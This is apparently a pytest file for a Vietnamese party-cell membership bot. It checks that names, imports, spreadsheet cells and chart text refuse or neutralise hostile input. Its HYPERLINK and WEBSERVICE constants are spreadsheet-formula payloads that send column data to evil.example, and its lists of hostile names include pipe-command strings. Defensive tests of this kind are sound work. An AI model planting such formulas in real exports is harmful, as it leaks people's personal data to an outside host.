"""Hostile text (#12, findings 2 and 4): what normalize() drops (L5), the one rule for names
typed in the bot and read from files, the sheet helper, the chart's text; and, played
through the real bot on SQLite and PostgreSQL, a typed =HYPERLINK(…) member, a cell renamed
=WEBSERVICE(…), hostile guests and attendee refused with a sentence and nothing written,
typed noncharacters cleaned, `chibo init --name` refused."""

from __future__ import annotations

import io
import unicodedata
from datetime import date

import openpyxl
import pytest
from openpyxl import Workbook
from sqlalchemy import select
from sqlalchemy.ext.asyncio import AsyncEngine

from bot.domain.model import MemberStatus, Role
from bot.domain.names import org_name_problem, person_name_problem
from bot.domain.roster import NewSpan
from bot.domain.summary import Period
from bot.domain.text import normalize
from bot.intake.org_import import parse_org_csv
from bot.intake.roster_import import parse_pasted
from bot.render.charts import chart_caption, compliance_chart
from storage import members
from storage.models import AuditEntry, Meeting, MeetingGuest, Member, Org

from .auxil.botenv import BotEnv
from .auxil.flows import cell_with_members, log_meeting, roster, secretary_of
from .test_cli import chibo
from .test_report_render import VI, make_report

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&TEXTJOIN(",",TRUE,C:C),"Xem")'
WEBSERVICE = '=WEBSERVICE("http://evil.example/"&ENCODEURL(TEXTJOIN(",",TRUE,C:C)))'
TODAY = date(2026, 11, 21)

# --- normalize (L5) and the XML backstop ----------------------------------------------------

NONCHARACTERS = [chr(c) for c in range(0xFDD0, 0xFDF0)] + [
    chr(plane * 0x10000 + low) for plane in range(17) for low in (0xFFFE, 0xFFFF)
]


def test_noncharacters_are_66_and_all_dropped() -> None:
    assert len(NONCHARACTERS) == 66
    for ch in NONCHARACTERS:
        assert normalize(f"Nguyễn{ch} Văn An{ch}") == "Nguyễn Văn An", hex(ord(ch))


def test_surrogates_and_unassigned_code_points_are_dropped() -> None:
    # A lone surrogate arrives from JSON ("\ud800"); U+0378 and U+2FFFF are unassigned.
    assert unicodedata.category("\u0378") == "Cn"
    assert normalize("Hòa\ud800\udfff \u0378Minh\U0002ffff") == "Hòa Minh"
    assert normalize("\ud83d") == ""


def test_everything_else_is_kept_as_before() -> None:
    kept = "Nguyễn Thị Hòa 🙂 ẞ 中文 \ue000 \U000f0000 ½ ²"  # private use (Co) is assigned
    assert normalize(kept) == kept
    assert normalize("  Hoà\u200b \u00a0 Ðạt\t\n") == "Hoà Đạt"  # as test_text.py
    once = normalize("a\ufffe\x01\u0378b")
    assert once == "ab" and normalize(once) == once  # idempotent


def test_xml_safe_keeps_what_xml_1_0_allows() -> None:
    from bot.domain.text import xml_safe

    assert xml_safe("a\x00\x01\x08\x0b\x0c\x1f\ud800\ufffe\uffffb") == "ab"
    allowed = "\t\n\r x\x7f\x85\ud7ff\ue000\ufffd\U00010000\U0010ffff"
    assert xml_safe(allowed) == allowed


# --- the name rules ---------------------------------------------------------------------------

REAL_PEOPLE = [
    "Nguyễn Thị Hòa", "Hoàng Minh Đạt", "H'Hen Niê", "Y-Moan Ênuôl", "Nguyễn T. Hòa",
    "Kim Thị Sa Rây", "Lê O’Brien", "Ngô Thị Ân",
]  # fmt: skip
HOSTILE_PEOPLE = [
    HYPERLINK, "-2+3", "+Nguyễn", "@Nguyễn", "'Nguyễn", ".Nguyễn", "Nguyễn|calc", "Nguyễn=1",
    "＝Nguyễn", "Nguyễn Văn 2", "Nguyễn ²", "Nguyễn $x$", "Nguyễn\u2061An", "#N/A",
]  # fmt: skip
REAL_ORGS = [
    "Chi bộ Khu phố 5", "Đảng bộ Công ty CP Xây dựng 3/2", "Chi bộ Trường THCS (cơ sở 2)",
    "Chi bộ Nông – Lâm", "Chi bộ Kho bạc & Thuế", "Đảng ủy phường Hòa Minh", "Chi bộ ấp 3A",
    "Chi bộ “Quyết Thắng”", "Chi bộ Khối 1, 2", "Chi bộ Công an xã Đắk R'Lấp",
    "3/2 Chi bộ", "Chi bộ Trạm Y tế phường",
]  # fmt: skip
HOSTILE_ORGS = [
    WEBSERVICE, "=1+1", "+Chi bộ", "-Chi bộ", "@Chi bộ", "(Chi bộ)", "Chi bộ | cmd",
    "Chi bộ $x$", "Chi bộ <b>", "Chi bộ; =1", "Chi bộ\u2061", "＝Chi bộ", "123", "Chi bộ #1",
]  # fmt: skip


@pytest.mark.parametrize("name", REAL_PEOPLE)
def test_real_names_are_accepted(name: str) -> None:
    assert person_name_problem(name) is None


@pytest.mark.parametrize("name", HOSTILE_PEOPLE)
def test_formula_and_symbol_names_are_refused(name: str) -> None:
    problem = person_name_problem(normalize(name))
    assert problem is not None and problem.code == "bad_name"


def test_person_name_length_and_emptiness() -> None:
    assert getattr(person_name_problem(""), "code", None) == "empty_name"
    assert getattr(person_name_problem("A" * 121), "code", None) == "name_too_long"
    assert person_name_problem("A" * 120) is None


@pytest.mark.parametrize("name", REAL_ORGS)
def test_real_org_names_are_accepted(name: str) -> None:
    assert org_name_problem(name) is None


@pytest.mark.parametrize("name", HOSTILE_ORGS)
def test_formula_and_control_org_names_are_refused(name: str) -> None:
    problem = org_name_problem(normalize(name))
    assert problem is not None and problem.code == "bad_org_name"


def test_the_import_uses_the_same_rule() -> None:
    """A pasted list and the organisation file refuse what the bot refuses."""
    pasted = parse_pasted("Nguyễn Văn An\n-2+3 - dự bị\n@Trần Thị Hòa", today=TODAY)
    assert [m.full_name for m in pasted.members] == ["Nguyễn Văn An"]
    assert [r.reason.code for r in pasted.rejected] == ["bad_name", "bad_name"]
    csv = (
        "Tổ chức cấp trên,Tên chi bộ,Loại hình,Ngày sinh hoạt hằng tháng\n"
        f'Đảng ủy phường Hòa Minh,"{WEBSERVICE.replace(chr(34), chr(34) * 2)}",dân cư,3\n'
        "@Đảng ủy,Chi bộ Khu phố 2,dân cư,3\n"
        "Đảng ủy phường Hòa Minh,Chi bộ Khu phố 3,dân cư,3\n"
    )
    result = parse_org_csv(csv.encode())
    assert [r.name for r in result.rows] == ["Chi bộ Khu phố 3"]
    assert {r.row: r.reason.code for r in result.rejected} == {2: "bad_org_name", 3: "bad_org_name"}


# --- the sheet helper (bot.render.xlsx; imported in each test, so that the flows below also run
# against the code before #12) ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [HYPERLINK, "+1", "-1", "@A1", "|x", "\t=1", "\r=1", "\n=1", " =1", "＝1", "＋1", "－1", "＠1"],
)
def test_formula_like_text_is_written_as_text(text: str) -> None:
    from bot.render.xlsx import looks_like_formula, put

    assert looks_like_formula(text)
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    put(ws, 1, 1, text)
    buf = io.BytesIO()
    wb.save(buf)
    cell = openpyxl.load_workbook(io.BytesIO(buf.getvalue())).active["A1"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)


def test_plain_values_keep_their_types() -> None:
    from bot.render.xlsx import looks_like_formula, text_cell

    wb = Workbook(write_only=True)
    ws = wb.create_sheet("x")
    ws.append([text_cell(ws, v) for v in ("Nguyễn Văn An", "#N/A", 3, 0.5, date(2026, 1, 2))])
    buf = io.BytesIO()
    wb.save(buf)
    row = next(openpyxl.load_workbook(io.BytesIO(buf.getvalue()))["x"].iter_rows())
    assert [(c.value, c.data_type) for c in row][:4] == [
        ("Nguyễn Văn An", "s"), ("#N/A", "s"), (3, "n"), (0.5, "n"),
    ]  # fmt: skip
    assert row[4].is_date and not row[0].quotePrefix and not looks_like_formula("Nguyễn")


def test_xml_illegal_characters_and_excel_limit() -> None:
    from bot.render.xlsx import set_value

    cell = set_value(Workbook().active.cell(1, 1), "a\x01\uffff" + "b" * 40_000)
    assert cell.value == "a" + "b" * 32_766 and cell.data_type == "s"


# --- the chart -------------------------------------------------------------------------------


@pytest.mark.parametrize("name", [r"Chi bộ $\frac{$", "Chi bộ $$", r"$\undefined$", "a\\$b$"])
def test_chart_draws_mathtext_as_text(name: str) -> None:
    from matplotlib.text import Text

    from bot.render.charts import _plain

    report = make_report(Period(2026, month=10), date(2026, 11, 3), node_name=name)
    assert compliance_chart(report, VI).startswith(b"\x89PNG")
    shown, is_math = Text(0, 0, _plain(name))._preprocess_math(_plain(name))
    assert (shown, is_math) == (name, False)


def test_chart_caption_is_escaped_html() -> None:
    report = make_report(Period(2026, month=10), date(2026, 11, 3), node_name="A <b> & B")
    caption = chart_caption(report, VI)
    assert caption.startswith("A &lt;b&gt; &amp; B: ")


# --- through the bot --------------------------------------------------------------------------


async def test_typed_hyperlink_member_is_refused_and_nothing_written(env: BotEnv) -> None:
    sec, tree = await secretary_of(env)
    await sec.command("members")
    await sec.press("➕ Thêm một người")
    for typed in (HYPERLINK, "-2+3", "@Nguyễn Văn An"):
        await sec.send(typed)
        answer = sec.chat.last_bot_message.text
        assert "Họ tên chỉ được gồm chữ cái" in answer and "bắt đầu bằng chữ cái" in answer
    assert await env.count(Member) == 0
    await sec.send("Hoàng\ufffe Minh Đạt\uffff")  # the flow still waits; cleaned (finding 4)
    await sec.press("chính thức")
    await sec.press("Hôm nay")
    assert list(await roster(env, tree["kp5"])) == ["Hoàng Minh Đạt"]


async def test_member_rename_to_a_formula_is_refused(env: BotEnv) -> None:
    sec, tree = await secretary_of(env)
    async with env.db() as s:
        m = await members.add_member(
            s, cell_id=tree["kp5"].id, full_name="Trần Thị Hòa", actor_id=None,
            spans=[NewSpan(MemberStatus.OFFICIAL, date(2000, 1, 1))],
        )  # fmt: skip
    await sec.command("members")
    await sec.press("Trần Thị Hòa")
    await sec.press("✏️ Sửa họ tên")
    await sec.send(HYPERLINK)
    assert "Họ tên chỉ được gồm chữ cái" in sec.chat.last_bot_message.text
    async with env.db() as s:
        again = await s.get(Member, m.id)
        assert again is not None and again.full_name == "Trần Thị Hòa"
        assert not list(
            await s.scalars(select(AuditEntry).where(AuditEntry.action == "member.rename"))
        )


async def test_cell_renamed_webservice_is_refused(env: BotEnv) -> None:
    tree = await env.seed_tree()
    admin = env.user(100, "Lan")
    await env.grant(admin, tree["ward"], Role.ADMIN)
    await admin.command("start")
    await admin.command("org")
    await admin.press("Chi bộ Khu phố 5")
    await admin.press("✏️ Đổi tên")
    await admin.send(WEBSERVICE)
    answer = admin.chat.last_bot_message.text
    assert "Tên chỉ được gồm chữ cái, chữ số" in answer and ". , - ( ) / & ' \"" in answer
    await admin.send("Chi bộ Khu phố 5\u2061")  # a format character normalize() keeps
    assert "Tên chỉ được gồm chữ cái, chữ số" in admin.chat.last_bot_message.text
    await admin.send("Chi bộ Khu phố 5 (mới)")  # the flow still waits
    assert "Đã đổi tên." in admin.chat.bot_texts()
    await admin.press("⬆️ Lên cấp trên")
    await admin.press("➕ Thêm chi bộ")
    await admin.send("=1+1")
    assert "Tên chỉ được gồm chữ cái, chữ số" in admin.chat.last_bot_message.text
    async with env.db() as s:
        names = set(await s.scalars(select(Org.name)))
        updates = list(await s.scalars(select(AuditEntry).where(AuditEntry.action == "org.update")))
    assert names == {"Đảng ủy phường Hòa Minh", "Chi bộ Khu phố 5 (mới)", "Chi bộ Tổ dân phố 12"}
    assert len(updates) == 1


async def test_hostile_guest_and_upper_attendee_are_refused(env: BotEnv) -> None:
    sec, _tree, _ids = await cell_with_members(env, 3)
    await log_meeting(sec, save=False)
    await sec.press("➕ Thêm chi tiết")
    await sec.press("👥 Khách mời")
    await sec.send(f"Lê Văn Tám, đảng viên chi bộ 3\n{HYPERLINK}, khách")
    answer = sec.chat.last_bot_message.text
    assert answer.startswith("Chưa ghi nhận “=HYPERLINK(") and "Họ tên chỉ được" in answer
    await sec.send("Lê Văn Tám\ufffe, đảng viên chi bộ 3")
    await sec.press("✔️ Xong")
    await sec.press("➕ Thêm chi tiết")
    await sec.press("🎖 Cấp ủy cấp trên")
    await sec.send("=WEBSERVICE(1), Đảng ủy viên")
    assert "Họ tên chỉ được" in sec.chat.last_bot_message.text
    await sec.send("Trần Văn Hải, Đảng ủy viên phụ trách")
    await sec.press("➕ Thêm chi tiết")
    await sec.press("📝 Nội dung chính")
    await sec.send("Triển khai\uffff Nghị quyết")
    async with env.db() as s:
        guests = [(g.name, g.note) for g in await s.scalars(select(MeetingGuest))]
        meeting = await s.scalar(select(Meeting))
    assert guests == [("Lê Văn Tám", "đảng viên chi bộ 3")]
    assert meeting is not None and meeting.upper_attendee == "Trần Văn Hải – Đảng ủy viên phụ trách"
    assert meeting.topic == "Triển khai Nghị quyết"


async def test_chibo_init_refuses_a_formula_name(engine: AsyncEngine) -> None:
    done = chibo(engine, "init", f"--name={WEBSERVICE}")
    assert done.returncode == 2 and "Traceback" not in done.stderr
    assert done.stderr.strip().splitlines() == [
        "Tên chỉ được gồm chữ cái, chữ số, dấu cách và các dấu . , - ( ) / & ' \" và phải bắt "
        "đầu bằng chữ cái hoặc chữ số, ví dụ: Chi bộ Khu phố 5."
    ]
    async with engine.connect() as conn:
        assert (await conn.execute(select(Org.id))).first() is None
